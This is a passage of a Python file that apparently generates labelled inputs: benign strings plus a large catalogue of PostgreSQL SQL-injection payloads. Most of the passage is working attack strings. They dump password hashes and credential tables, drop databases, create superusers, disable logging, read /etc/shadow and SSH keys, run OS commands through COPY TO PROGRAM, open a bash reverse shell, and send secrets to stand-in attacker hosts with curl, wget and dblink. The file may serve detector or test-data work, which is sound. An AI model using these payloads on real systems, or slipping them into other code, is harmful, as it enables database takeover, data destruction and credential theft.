    pre, post, toks, rest = slot_split(tpl, slot, CLOSER)
    stack, ctx, _ = open_brackets(toks)
    words = [v for k, v in toks if k == "W"]
    between = False
    for w in reversed(words):
        if w in ("AND", "OR", "WHERE", "ON", "SET", "HAVING"):
            break
        if w == "BETWEEN":
            between = True
            break
    sp = tpl[2][slot]
    return {"type": sp[0], "depth": len(stack), "closers": "".join(reversed(stack)), "ctx": ctx, "lead": lex(tpl[1])[0][1],
            "tail_means": carries_meaning(rest), "orig": sp[1], "opts": opts(tpl, slot),
            "prev_word": words[-1] if words else "", "next_word": next((v for k, v in lex(rest)), ""), "between": between,
            "hand_close": sp[3] if len(sp) > 3 else None, "template": tpl[0]}


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Pádraig Ó Snodaigh", "Beth O'Rourke-Haines", "Kaʻena Point", "Baie-d'Urfé", "Lough Neagh's shore", "Tu'ipulotu Hala",
   "Aoibhe Ní Dhuibhir", "Wolf's Crag Hut", "Sant'Ambrogio", "Cap d'Antibes", "Jean-Luc D'Arcy", "Jerry's Kitchen", "Ko'olau Range",
   "Children's Hospice South West", "M'Bow Sissoko", "Nuku'alofa", "Mont-d'Origny", "the Warden's Hut", "Rua'a Bint Zayd", "St John's Wood",
   "Hallowe'en recital", "Shepherd's Bush depot", "Fort-de-France d'Outre", "O'Connor's Lock", "Nga'atu", "Grand'Rue"],
 "input_plain": ["seed viability", "bourdon bell", "night bus", "pinot noir", "day hospice", "compound bow", "claim drafting", "swell box",
   "bunk room", "fog signal", "merino fleece", "peregrine", "leaded light", "lock keeper", "second flush", "oyster spawn", "weather balloon",
   "quarter binding", "anchor escapement", "truss point", "huacaya", "raised bed", "repeater gain", "toll booth", "coxless four", "contour line",
   "bronze pour", "trackable coin", "full dome", "bench face", "zamboni run", "ring recovery"],
 "input_numeric_string": ["0042", "7.50", "1e3", "-1", "2026", "+7", "0.0", "000", "3,14", "1_000", "123456789012345678901234", "9.", ".25", "0x1F", "08"],
 "input_formatted": ["2025-07-14T21:40:00+02:00", "3f6c2a9e-5b1d-4e7a-9c0b-2d4e6f8a1b3c", "DE89370400440532013000", "+33 1 42 68 53 00", "LOT-25-0091/B",
   "21:40", "SW1A 1AA", "4.12.0-rc1", "CHF 1'250.00", "5500 0000 0000 0004", "2024-02-29", "203.0.113.77", "KX21 OBR", "978-0-00-752876-1",
   "12.345,67", "#c0ffee", "/api/v3/huts/GOUTER/bunks?from=2025-07-14", "45°49'58\"N 6°51'54\"E", "FY2024/25", "PT2H30M", "0o755", "GB2404417.3",
   "2025-12-31 23:59:59.999999+00", "14/07/2025", "WMO 03808", "ICD-10 Z51.5", "B7-PINOT-R12", "v=DMARC1; p=reject", "S 33.8688, E 151.2093", "-40 °C"],
 "input_unicode": ["Ærøskøbing Kirke", "北京市海淀区", "Κυριακή", "Добрый вечер", "bells 🔔 at noon", "שלום עליכם", "rødgrød med fløde", "İstanbul",
   "ＵＮＩＯＮ　ＳＥＬＥＣＴ", "zero\u200bwidth", "± 0.5 mm", "ﬁnal proof", "Weißwurst", "n\u0303", "日本語のテキスト", "ᓀᐦᐃᔭᐍᐏᐣ", "Þingvellir", "Reykjavík",
   "አማርኛ", "🦅 peregrine", "Kraków Główny", "Đà Nẵng", "São Tomé", "Ōsaka-fu"],
 "input_json_text": ['{"hut": "GOUTER", "bunks": 4}', '[{"note": "don\'t ring before 9"}]', '{"filter": "a=1 or b=2"}', 'null', '{"query": "DROP SCHEMA x"}',
   '{"file": "D:\\\\maps\\\\sheet.tif"}', '{"v": 6.02e23, "w": false}', '["--", "/*", "*/", "\'"]', '{"q": "\' or 1=1 --"}', '[]', '{"a": {"b": {"c": [1, 2]}}}',
   '{"select": "*", "from": "users"}', '{"sleep": 5}'],
 "input_url_email": ["https://huts.example.org/book?hut=GOUTER&n=2", "mailto:rota+swap@hospice.example", "sftp://maps.example.net/explorer/OL7.tif",
   "o'neill.bell@example.ie", "https://example.com/search?q=select+*+from+bells", "http://[2001:db8::7]:8080/health",
   "tel:+41-27-555-0100", "https://example.org/help#union-rules", "a@b.co", "https://example.net/p%3Fq%3D1;x=2?y=%22"],
 "input_sql_words": ["Union Chapel", "Select Committee", "Drop Bear Ranch", "Inner Join Café", "Table Mountain", "Insert Coin Arcade", "Sleepy Hollow",
   "Where the Wild Things Are", "Order of the Garter", "Grant Road", "Execute Fitness", "Null Island", "Like a Rolling Stone", "From Dusk Till Dawn",
   "Case Closed Bakery", "Having a Ball", "Truncated Cone", "Update Studios", "Delete Key Ltd", "Or Yehuda", "And Then There Were None",
   "Create Arts Hub", "Alter Bridge", "Declare Dance", "Cast Iron Works", "Begin Church", "Commit Street", "Rollback Rink", "Benchmark Bells"],
 "input_punctuation": ["!?", ";;", "**", "\\", "#12", "100%", "(n/a)", "[draft]", "{x}", "<none>", "a;b", "--", "/**/", "&&", "...", "¡hola!",
   "@warden", "€9", "x=y", "'quoted'", "\"dq\"", "||", "::", "$$", "%_", "1/2", "~/", "^_^", "`bt`", "' '", "-- x"],
 "input_whitespace": ["  leading", "trailing   ", "col\tcol", "line one\nline two", "\r\n", "wide     gap", "   ", "\tindent", "ends\n", "a\r\nb", "\f"],
}
SENTS = ["Bunk 4 has a broken slat; use bunk 6 instead.", "Ring the tenor last -- the clapper is loose.", "Select the north gate if the south one is iced.",
 "Union rules: drivers swap only with the depot manager's okay.", "She said: \"don't prune block 7 until Monday\".", "Is 12 > 9? Yes, so the claim stands.",
 "Drop off the fleeces at shed 3 before noon.", "Order #4471 shipped in two parcels (one delayed).", "Delete the draft once the attorney signs.",
 "We'll climb at 4 a.m., or wait for the cloud to lift.", "The pour reached 1180 °C; mould 2 cracked slightly.", "Note: /* old */ codes stay for the archive.",
 "Resurface after every 45-minute session; the edges are soft.", "Found under a hedge, ring still legible; 'GR49021'."]


def typed_value(r, default):
    """A benign value of the same shape as a typed slot's default."""
    d = default
    if re.fullmatch(r"\d{4}-\d\d-\d\d", d):
        return rdate(r, 2019, 2026), "input_formatted"
    if re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d.*", d):
        return "%s %02d:%02d%s" % (rdate(r, 2019, 2026), r.randint(0, 23), r.choice([0, 10, 30, 45]), r.choice(["", "", "+00", "+02", ":30"])), "input_formatted"
    if re.fullmatch(r"\d\d:\d\d", d):
        return "%02d:%02d" % (r.randint(0, 23), r.choice([0, 15, 30, 45])), "input_formatted"
    if re.fullmatch(r"\d+ [a-z]+", d):
        if r.random() < 0.3:
            return str(r.randint(1, 90)), "input_numeric_string"
        return "%d %s" % (r.randint(1, 120), r.choice(["days", "hours", "minutes", "weeks", "months", "mins", "day"])), "input_formatted"
    if "&" in d or ":*" in d:
        w = ["battery", "anode", "rotor", "blade", "valve", "sensor", "hinge", "lattice", "polymer", "graphene"]
        return r.choice(["%s & %s" % (r.choice(w), r.choice(w)), "%s:*" % r.choice(w)[:5], "%s | %s" % (r.choice(w), r.choice(w)), "!%s" % r.choice(w)]), "input_formatted"
    if re.fullmatch(r"[A-Za-z\- ]+", d):
        return r.choice(["DD/MM/YYYY", "Mon DD, YYYY", "YYYY-MM-DD HH24:MI", "FMDay DD FMMonth", "IYYY-IW", "DD.MM.YY", "Q\"Q\" YYYY"]), "input_formatted"
    return str(r.randint(1, 400)), "input_numeric_string"


# ---------------------------------------------------------------- what a tester goes after
LOOT = [("users", "username", "password", "administrator"), ("hut_wardens", "login", "pass_hash", "chief.warden"),
        ("depot_staff", "badge_no", "pin_hash", "B0001"), ("patent_attorneys", "email", "api_token", "admin@ipfirm.example"),
        ("seedbank_curators", "login", "password_digest", "curator"), ("app_accounts", "handle", "secret", "root"),
        ("toll_operators", "operator_id", "pw_hash", "op-admin"), ("rota_admins", "email", "pwd", "rota@hospice.example")]
HOSTS = ["burp-collab.example.net", "oast.example.com", "x.attacker.example", "exfil.example.org", "dnslog.example.io", "pentest-cb.example"]
IPS = ["203.0.113.5", "198.51.100.23", "192.0.2.66", "203.0.113.200"]
FILES = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "/proc/self/environ", "/proc/version", "/var/lib/postgresql/.pgpass", "/root/.ssh/id_rsa",
         "postgresql.conf", "pg_hba.conf", "../../../etc/passwd", "/var/lib/postgresql/15/main/PG_VERSION", "/home/app/.env"]
CMDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "hostname", "ls -la /", "ps aux", "curl http://%s/x" % "burp-collab.example.net", "env", "nslookup $(whoami).oast.example.com"]
ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"


def loot(r):
    return r.choice(LOOT)


def secret(r):
    """A value a tester extracts one piece at a time."""
    t, u, p, who = loot(r)
    return r.choice([
        "(SELECT %s FROM %s WHERE %s='%s')" % (p, t, u, who), "(SELECT %s FROM %s LIMIT 1 OFFSET %d)" % (u, t, r.randint(0, 9)),
        "current_user", "current_database()", "version()", "session_user", "current_schema()", "user",
        "(SELECT passwd FROM pg_shadow WHERE usename='postgres')", "(SELECT usename FROM pg_user LIMIT 1 OFFSET %d)" % r.randint(0, 4),
        "(SELECT table_name FROM information_schema.tables WHERE table_schema='public' LIMIT 1 OFFSET %d)" % r.randint(0, 30),
        "(SELECT column_name FROM information_schema.columns WHERE table_name='%s' LIMIT 1 OFFSET %d)" % (t, r.randint(0, 6)),
        "(SELECT string_agg(datname,',') FROM pg_database)", "current_setting('data_directory')", "inet_server_addr()::text",
        "(SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1)", "(SELECT relname FROM pg_class WHERE relkind='r' ORDER BY oid DESC LIMIT 1)",
        "current_setting('server_version')", "(SELECT %s FROM %s ORDER BY 1 LIMIT 1)" % (p, t)])


def infer(r, e=None):
    """One yes/no question about a secret, the way it is typed by hand."""
    e = e or secret(r)
    pos, ch = r.randint(1, 24), r.choice(ALNUM)
    n = r.choice([r.randint(48, 57), r.randint(97, 122), r.randint(65, 90), r.choice([64, 80, 96, 100, 109, 112, 115])])
    return r.choice([
        "SUBSTRING(%s,%d,1)='%s'" % (e, pos, ch), "substr(%s,%d,1)>'%s'" % (e, pos, ch), "ascii(substring(%s,%d,1))>%d" % (e, pos, n),
        "ASCII(SUBSTR(%s,%d,1))=%d" % (e, pos, n), "length(%s)>%d" % (e, r.randint(1, 40)), "LENGTH(%s)=%d" % (e, r.randint(4, 32)),
        "left(%s,%d)='%s'" % (e, 2, rword(r, 2)), "%s LIKE '%s%%'" % (e, rword(r, r.randint(1, 3))), "%s ~ '^%s'" % (e, rword(r, r.randint(1, 3))),
        "ascii(substring(%s from %d for 1)) BETWEEN %d AND %d" % (e, pos, n - 8, n), "substring(%s,%d,1) IN ('%s','%s')" % (e, pos, ch, r.choice(ALNUM)),
        "strpos(%s,'%s')=%d" % (e, ch, r.randint(1, 12)), "octet_length(%s)<%d" % (e, r.choice([8, 16, 32, 64]))])


def portswigger_cond(r):
    """The shape of PortSwigger's blind labs: a subquery on the users table that yields 'a' when the guess is right."""
    t, u, p, who = loot(r)
    pos, ch = r.randint(1, 20), r.choice(ALNUM)
    return r.choice([
        "(SELECT 'a' FROM %s LIMIT 1)='a'" % t, "(SELECT 'a' FROM %s WHERE %s='%s')='a'" % (t, u, who),
        "(SELECT 'a' FROM %s WHERE %s='%s' AND LENGTH(%s)>%d)='a'" % (t, u, who, p, r.randint(1, 30)),
        "(SELECT SUBSTRING(%s,%d,1) FROM %s WHERE %s='%s')='%s'" % (p, pos, t, u, who, ch),
        "(SELECT substring(%s,%d,1) FROM %s WHERE %s='%s')>'%s'" % (p, pos, t, u, who, ch)])


# ---------------------------------------------------------------- payload cores, written the way testers type them
# mode: cond (an AND/OR clause) | open (a clause whose last string the template's own quote closes) |
#       stack (statements after ;) | union (a UNION/ORDER BY tail) | repl (a value in place of the input) |
#       concat (a value spliced into the string with ||) | order (an ORDER BY expression)
PG = "PostgreSQL"


def sleep_s(r):
    return r.choice([5, 10, 10, 3, 7, 15, 20, 6])


def nulls(n, pos=None, val=None):
    cols = ["NULL"] * n
    if pos is not None:
        cols[pos] = val
    return ",".join(cols) if n < 4 or pos is None else ", ".join(cols)


def foreign(r, cores):
    """Vectors for other databases that testers spray at every target: sometimes."""
    return cores if r.random() < 0.3 else []


def hand_cores(r, fam, si):
    a, b = r.randint(2, 99), r.randint(100, 999)
    w = rword(r, r.randint(2, 5))
    s = sleep_s(r)
    t, u, p, who = loot(r)
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7))
    if fam == "tautology":
        return [(n, "cond", c, d) for n, c, d in [
            ("or_1_eq_1", "OR 1=1", "generic"), ("or_1_eq_1_lower", "or 1=1", "generic"), ("or_n_eq_n", "OR %d=%d" % (a, a), "generic"),
            ("or_gt", "OR %d>%d" % (b, a), "generic"), ("or_true", "OR true", PG), ("or_one", "OR 1", "generic"), ("or_ne_strings", "OR 'x'<>'y'", "generic"),
            ("or_in_list", "OR %d IN (%d,%d)" % (a, b, a), "generic"), ("or_not_false", "OR NOT false", PG), ("or_like_prefix", "OR '%s' LIKE '%s%%'" % (w, w[:1]), "generic"),
            ("or_between", "OR %d BETWEEN 1 AND %d" % (a, b), "generic"), ("or_bool_cast", "OR 1::bool", PG), ("or_empty_eq", "OR ''=''", "generic"),
            ("or_not_null", "OR 'a' IS NOT NULL", "generic"), ("or_concat_eq", "OR 'ab'='a'||'b'", PG), ("or_length", "OR length('%s')=%d" % (w, len(w)), PG),
            ("or_exists_select", "OR EXISTS(SELECT 1)", PG), ("or_ge_self", "OR %d>=%d" % (b, b), "generic"), ("or_is_true", "OR (1=1) IS TRUE", PG),
            ("or_yes_bool", "OR 'yes'::boolean", PG), ("or_null_is_null", "OR NULL IS NULL", "generic"), ("or_arith", "OR %d-%d=%d" % (b, a, b - a), "generic"),
            ("or_upper", "OR upper('%s')='%s'" % (w, w.upper()), PG), ("or_any_array", "OR %d = ANY(ARRAY[%d,%d])" % (a, b, a), PG),
            ("or_regex", "OR '%s' ~ '%s'" % (w, w[:2]), PG), ("or_paren_eq", "OR (%d)=(%d)" % (a, a), "generic"), ("or_text_int", "OR '%d'::int=%d" % (a, a), PG),
            ("or_array_eq", "OR array[%d]=array[%d]" % (a, a), PG), ("or_now", "OR now() > '2000-01-01'", PG), ("or_chr_concat", "OR chr(65)||chr(66)='AB'", PG),
            ("or_ilike", "OR '%s' ILIKE '%s'" % (w, w.upper()), PG), ("or_not_distinct", "OR %d IS NOT DISTINCT FROM %d" % (a, a), PG),
            ("or_mod", "OR %d %% %d = %d" % (b, a, b % a), "generic"), ("or_float", "OR %d = %d.0" % (a, a), "generic"), ("or_lt_zero", "OR 0<%d" % a, "generic"),
            ("or_current_date", "OR current_date IS NOT NULL", PG), ("or_greatest", "OR greatest(%d,%d)=%d" % (a, b, b), PG),
            ("or_ascii", "OR ascii('%s')=%d" % (w[0], ord(w[0])), PG), ("or_coalesce", "OR coalesce(NULL,%d)=%d" % (a, a), PG)]] + [
            (n, "open", c, "generic") for n, c in [("open_1_eq_1", ("OR ", "'1'='1")), ("open_empty", ("or ", "''='")), ("open_x_eq_x", ("OR ", "'x'='x")),
                                                 ("open_or_quote", ("OR 1=1 OR ", "'")), ("open_word", ("OR ", "'%s'='%s" % (w, w))), ("open_ne", ("OR ", "'a'<>'b"))]]
    if fam == "union":
        n = r.randint(1, 4)
        pos = r.randrange(n)
        exprs = [("version", "version()", ""), ("user", "current_user", ""), ("db", "current_database()", ""),
                 ("shadow", "usename||':'||passwd", " FROM pg_shadow"), ("tables", "table_name", " FROM information_schema.tables WHERE table_schema='public'"),
                 ("columns", "column_name", " FROM information_schema.columns WHERE table_name='%s'" % t), ("datnames", "string_agg(datname,',')", " FROM pg_database"),
                 ("server_addr", "inet_server_addr()::text", ""), ("data_dir", "current_setting('data_directory')", ""),
                 ("superusers", "rolname", " FROM pg_roles WHERE rolsuper"), ("loot", "%s||'~'||%s" % (u, p), " FROM %s" % t),
                 ("pg_tables", "schemaname||'.'||tablename", " FROM pg_tables"), ("dblink_procs", "proname", " FROM pg_proc WHERE proname LIKE 'dblink%'"),
                 ("log_dir", "setting", " FROM pg_settings WHERE name='log_directory'"), ("json_dump", "json_agg(x)::text", " FROM %s x" % t),
                 ("hba", "array_to_string(array_agg(address),',')", " FROM pg_hba_file_rules"), ("ssl_key", "setting", " FROM pg_settings WHERE name LIKE 'ssl%'")]
        name, e, frm = r.choice(exprs)
        kw = r.choice(["UNION SELECT", "UNION ALL SELECT", "union select", "UNION SELECT"])
        return [("union_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, e), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("drop_table", "DROP TABLE %s" % t), ("drop_cascade", "DROP TABLE IF EXISTS %s CASCADE" % t),
            ("insert_admin", "INSERT INTO %s(%s,%s) VALUES('%s','%s')" % (t, u, p, nm, rword(r, 8))),
            ("update_role", "UPDATE %s SET role='admin' WHERE %s='%s'" % (t, u, nm)), ("update_pw", "UPDATE %s SET %s='%s' WHERE %s='%s'" % (t, p, rword(r, 10), u, who)),
            ("create_superuser", "CREATE USER %s WITH SUPERUSER PASSWORD '%s'" % (nm, rword(r, 8))), ("alter_postgres_pw", "ALTER USER postgres PASSWORD '%s'" % rword(r, 8)),
            ("grant_all", "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"), ("truncate_audit", "TRUNCATE audit_log"), ("delete_sessions", "DELETE FROM app_sessions"),
            ("set_role", "SET ROLE postgres"), ("alter_system_log", "ALTER SYSTEM SET log_statement='none'; SELECT pg_reload_conf()"),
            ("set_config_log", "SELECT set_config('log_min_messages','panic',false)"), ("create_table", "CREATE TABLE %s(t text)" % nm),
            ("drop_schema", "DROP SCHEMA public CASCADE"), ("disable_triggers", "ALTER TABLE %s DISABLE TRIGGER ALL" % t),
            ("commit_drop_db", "COMMIT; DROP DATABASE %s" % r.choice(["huts", "depot", "seedbank", "postgres"])), ("create_ext_dblink", "CREATE EXTENSION IF NOT EXISTS dblink"),
            ("lock_table", "LOCK TABLE %s IN ACCESS EXCLUSIVE MODE" % t), ("kill_backends", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid<>pg_backend_pid()"),
            ("search_path", "ALTER ROLE current_user SET search_path = %s, public" % nm), ("view_leak", "CREATE VIEW %s AS SELECT * FROM pg_shadow" % nm),
            ("grant_server_files", "GRANT pg_read_server_files TO %s" % r.choice(["app", "web", "PUBLIC"])), ("rename_table", "ALTER TABLE %s RENAME TO %s_old" % (t, t)),
            ("reset_all", "RESET ALL; SET statement_timeout=0"), ("insert_select_shadow", "INSERT INTO guestbook(body) SELECT passwd FROM pg_shadow"),
            ("revoke_owner", "REASSIGN OWNED BY %s TO %s" % (r.choice(["app", "reporting"]), nm)), ("vacuum_full", "VACUUM FULL"),
            ("alter_system_ssl", "ALTER SYSTEM SET ssl = off"), ("copy_rows_out", "COPY %s TO STDOUT" % t)]]
    if fam == "boolean_blind":
        return [(n, "cond", c, PG) for n, c in [
            ("is_superuser", "AND current_setting('is_superuser')='on'"), ("rolsuper", "AND (SELECT rolsuper FROM pg_roles WHERE rolname=current_user)"),
            ("version_prefix", "AND substr(version(),1,10)='PostgreSQL'"), ("version_major", "AND split_part(current_setting('server_version'),'.',1)::int>=%d" % r.choice([12, 14, 15, 16])),
            ("table_exists", "AND EXISTS(SELECT 1 FROM pg_tables WHERE tablename='%s')" % t), ("count_users", "AND (SELECT count(*) FROM pg_user)>%d" % r.randint(0, 5)),
            ("has_dblink", "AND EXISTS(SELECT 1 FROM pg_extension WHERE extname='dblink')"), ("can_read_files", "AND pg_has_role(current_user,'pg_read_server_files','MEMBER')"),
            ("can_exec_program", "AND pg_has_role('pg_execute_server_program','USAGE')"), ("is_replica", "AND pg_is_in_recovery()=false"),
            ("column_exists", "AND EXISTS(SELECT 1 FROM information_schema.columns WHERE table_name='%s' AND column_name='%s')" % (t, p)),
            ("db_length", "AND length(current_database())=%d" % r.randint(3, 12)), ("ssl_used", "AND (SELECT ssl FROM pg_stat_ssl WHERE pid=pg_backend_pid())"),
            ("port_is", "AND current_setting('port')='%d'" % r.choice([5432, 5433, 6432])), ("plpython_avail", "AND EXISTS(SELECT 1 FROM pg_language WHERE lanname LIKE 'plpython%')"),
            ("user_prefix", "AND current_user LIKE '%s%%'" % r.choice(["post", "app", "web", "rds"])), ("schema_count", "AND (SELECT count(*) FROM pg_namespace)>%d" % r.randint(3, 9)),
            ("createrole", "AND (SELECT rolcreaterole FROM pg_roles WHERE rolname=user)"), ("cloud_sql", "AND EXISTS(SELECT 1 FROM pg_roles WHERE rolname='cloudsqlsuperuser')"),
            ("tz_check", "AND current_setting('TimeZone')='UTC'"), ("shadow_readable", "AND has_table_privilege('pg_shadow','SELECT')"),
            ("pw_scram", "AND (SELECT passwd FROM pg_shadow WHERE usename=current_user) LIKE 'SCRAM%%'"), ("lo_count", "AND (SELECT count(*) FROM pg_largeobject_metadata)=0"),
            ("first_table_char", "AND (SELECT substr(relname,1,1) FROM pg_class WHERE relkind='r' AND relnamespace='public'::regnamespace LIMIT 1)='%s'" % r.choice("abcdhmprstu"))]]
    if fam == "time_pg_sleep":
        return [
            ("stack_sleep", "stack", "SELECT pg_sleep(%d)" % s, PG), ("concat_sleep", "concat", "pg_sleep(%d)" % s, PG),
            ("stack_case_sleep", "stack", "SELECT CASE WHEN (1=1) THEN pg_sleep(%d) ELSE pg_sleep(0) END" % s, PG),
            ("and_sleep_subquery", "cond", "AND 1=(SELECT 1 FROM pg_sleep(%d))" % s, PG), ("or_sleep_is_null", "cond", "OR pg_sleep(%d) IS NULL" % s, PG),
            ("and_sleep_not_null", "cond", "AND (SELECT pg_sleep(%d)) IS NOT NULL" % s, PG), ("sleep_for", "stack", "SELECT pg_sleep_for('%d seconds')" % s, PG),
            ("sleep_until", "stack", "SELECT pg_sleep_until(now() + interval '%d sec')" % s, PG),
            ("heavy_series", "cond", "AND (SELECT count(*) FROM generate_series(1,%d))>0" % r.choice([5000000, 10000000, 30000000]), PG),
            ("sleep_from_table", "stack", "SELECT pg_sleep(%d) FROM %s WHERE %s='%s'" % (s, t, u, who), PG),
            ("value_sleep", "repl", "(SELECT 1 FROM pg_sleep(%d))" % s, PG), ("concat_sleep_text", "concat", "(SELECT pg_sleep(%d))::text" % s, PG),
            ("cross_join_heavy", "cond", "AND (SELECT count(*) FROM generate_series(1,3000) a, generate_series(1,3000) b)>0", PG),
            ("sleep_in_where", "cond", "AND 1 IN (SELECT 1 FROM pg_sleep(%d))" % s, PG), ("sleep_mul", "cond", "OR 0=(SELECT count(*) FROM pg_sleep(%d))-1" % s, PG),
            ("stack_sleep_upper", "stack", "SELECT PG_SLEEP(%d)" % s, PG), ("sleep_repeat_md5", "cond", "AND length(repeat(md5('x'),%d))>1" % r.choice([50000000, 90000000]), PG)]
    if fam == "error_cast":
        e = r.choice(["version()", "current_user", "current_database()", "(SELECT %s FROM %s LIMIT 1)" % (p, t), "(SELECT %s FROM %s LIMIT 1)" % (u, t),
                      "(SELECT string_agg(table_name,',') FROM information_schema.tables WHERE table_schema='public')", "(SELECT passwd FROM pg_shadow LIMIT 1)",
                      "current_setting('data_directory')", "(SELECT string_agg(usename,',') FROM pg_user)", "inet_server_addr()::text"])
        return [
            ("cast_int", "cond", "AND 1=CAST(%s AS int)" % e, PG), ("cast_int_rev", "cond", "AND CAST(%s AS int)=1" % e, PG),
            ("colon_int", "cond", "AND 1=(%s)::int" % e, PG), ("numeric_cmp", "cond", "AND (%s)::numeric=1" % e, PG),
            ("concat_cast", "concat", "CAST(%s AS int)" % e, PG), ("query_to_xml", "cond", "AND 1=CAST(query_to_xml('SELECT * FROM %s',true,true,'')::text AS int)" % t, PG),
            ("database_to_xml", "cond", "AND 1=CAST(database_to_xml(true,true,'')::text AS int)", PG),
            ("table_to_xml_schema", "cond", "AND 1=(SELECT table_to_xmlschema('%s',true,true,'')::text)::int" % t, PG),
            ("xmlparse_leak", "cond", "AND xmlparse(document (SELECT '<'||%s)) IS NULL" % e, PG), ("div_zero_case", "cond", "AND 1=(SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)", PG),
            ("value_cast", "repl", "CAST(%s AS int)" % e, PG), ("regclass_leak", "cond", "AND (%s)::regclass IS NOT NULL" % e, PG),
            ("date_leak", "cond", "AND (%s)::date IS NULL" % e, PG), ("bigint_or", "cond", "OR 1=CAST(%s AS bigint)" % e, PG),
            ("json_leak", "cond", "AND (%s)::json IS NULL" % e, PG), ("inet_leak", "cond", "AND (%s)::inet IS NULL" % e, PG)]
    if fam == "oob_file_program":
        lo = r.randint(16000, 99999)
        so = r.choice(["/tmp/%s.so" % nm, "/var/lib/postgresql/%s.so" % nm])
        return [(n, m, c, PG) for n, m, c in [
            ("copy_program_nslookup", "stack", "COPY (SELECT '') TO PROGRAM 'nslookup %s.%s'" % (nm, host)),
            ("cmd_exec_table", "stack", "CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM '%s'; SELECT * FROM cmd_exec" % cmd),
            ("copy_from_program", "stack", "COPY %s FROM PROGRAM '%s'" % (nm, cmd)), ("copy_to_file", "stack", "COPY %s TO '/tmp/%s.csv'" % (t, nm)),
            ("read_file_union", "union", "UNION SELECT pg_read_file('%s'),NULL" % f), ("read_file_stack", "stack", "SELECT pg_read_file('%s',0,200)" % f),
            ("ls_dir", "stack", "SELECT pg_ls_dir('%s')" % r.choice([".", "/etc", "/tmp", "pg_wal", "/home"])), ("ls_dir_union", "union", "UNION SELECT pg_ls_dir('.'),NULL"),
            ("read_binary", "stack", "SELECT encode(pg_read_binary_file('%s'),'base64')" % f), ("lo_import", "stack", "SELECT lo_import('%s')" % f),
            ("lo_import_id", "stack", "SELECT lo_import('%s', %d); SELECT convert_from(lo_get(%d),'UTF8')" % (f, lo, lo)),
            ("lo_from_bytea_export", "stack", "SELECT lo_from_bytea(%d, decode('f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA','base64')); SELECT lo_export(%d, '%s')" % (lo, lo, so)),
            ("lo_export_pgpass", "stack", "SELECT lo_export(%d, '/tmp/%s')" % (lo, nm)),
            ("dblink_exfil", "stack", "SELECT dblink_connect('host=%s user=x password='||(SELECT passwd FROM pg_shadow LIMIT 1)||' dbname=x')" % host),
            ("dblink_dns", "stack", "SELECT * FROM dblink('host='||(SELECT current_user)||'.%s user=a dbname=b','SELECT 1') AS t(i int)" % host),
            ("copy_program_curl", "stack", "COPY (SELECT %s FROM %s) TO PROGRAM 'curl -s -X POST --data-binary @- http://%s/'" % (p, t, host)),
            ("create_c_function", "stack", "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' LANGUAGE C STRICT"),
            ("call_system", "stack", "SELECT system('%s')" % cmd), ("stat_file", "stack", "SELECT * FROM pg_stat_file('%s')" % f),
            ("copy_from_file", "stack", "CREATE TEMP TABLE %s(l text); COPY %s FROM '%s'; SELECT * FROM %s" % (nm, nm, f, nm)),
            ("read_file_cond", "cond", "AND length(pg_read_file('%s'))>0" % f), ("ls_dir_concat", "concat", "(SELECT string_agg(d,',') FROM pg_ls_dir('/') d)"),
            ("reverse_shell", "stack", "COPY (SELECT 1) TO PROGRAM 'bash -c \"bash -i >& /dev/tcp/%s/4444 0>&1\"'" % ip),
            ("copy_program_wget", "stack", "COPY (SELECT '') TO PROGRAM 'wget -q http://%s/$(hostname)'" % host),
            ("create_c_udf", "stack", "CREATE FUNCTION %s(text) RETURNS text AS '%s', 'pg_exec' LANGUAGE C STRICT" % (nm, so))]]
    if fam == "plpgsql_do_exec":
        return [(n, "stack", c, PG) for n, c in [
            ("do_execute_drop", "DO $$ BEGIN EXECUTE 'DROP TABLE %s'; END $$" % t),
            ("do_sleep", "DO $$ BEGIN PERFORM pg_sleep(%d); END $$" % s),
            ("do_raise_leak", "DO $$ BEGIN RAISE EXCEPTION '%%', (SELECT string_agg(%s||':'||%s, ',') FROM %s); END $$" % (u, p, t)),
            ("do_create_user", "DO $body$ BEGIN EXECUTE format('CREATE ROLE %%I SUPERUSER LOGIN PASSWORD %%L', '%s', '%s'); END $body$" % (nm, rword(r, 8))),
            ("do_copy_program", "DO $$ BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''%s'''; END $$" % cmd.replace("'", "''")),
            ("plpython_exec", "CREATE OR REPLACE FUNCTION %s(cmd text) RETURNS text AS $$ import subprocess; return subprocess.check_output(cmd, shell=True).decode() $$ LANGUAGE plpython3u" % nm),
            ("plpython_call", "SELECT %s('%s')" % (nm, cmd)),
            ("plperlu_exec", "CREATE FUNCTION %s() RETURNS text LANGUAGE plperlu AS $$ return `%s`; $$" % (nm, cmd)),
            ("do_loop_exfil", "DO $$ DECLARE r record; BEGIN FOR r IN SELECT %s, %s FROM %s LOOP PERFORM dblink_connect('host='||r.%s||'.%s'); END LOOP; END $$" % (u, p, t, p, host)),
            ("secdef_func", "CREATE FUNCTION %s() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $f$ BEGIN UPDATE %s SET %s='x'; END $f$" % (nm, t, p)),
            ("do_grant_self", "DO $$ BEGIN EXECUTE 'ALTER ROLE ' || current_user || ' SUPERUSER'; END $$"),
            ("do_language_quoted", "DO LANGUAGE plpgsql 'BEGIN PERFORM pg_sleep(%d); END'" % s),
            ("trigger_backdoor", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS $t$ BEGIN NEW.role := 'admin'; RETURN NEW; END $t$; CREATE TRIGGER %s BEFORE INSERT ON %s FOR EACH ROW EXECUTE FUNCTION %s()" % (nm, nm, t, nm)),
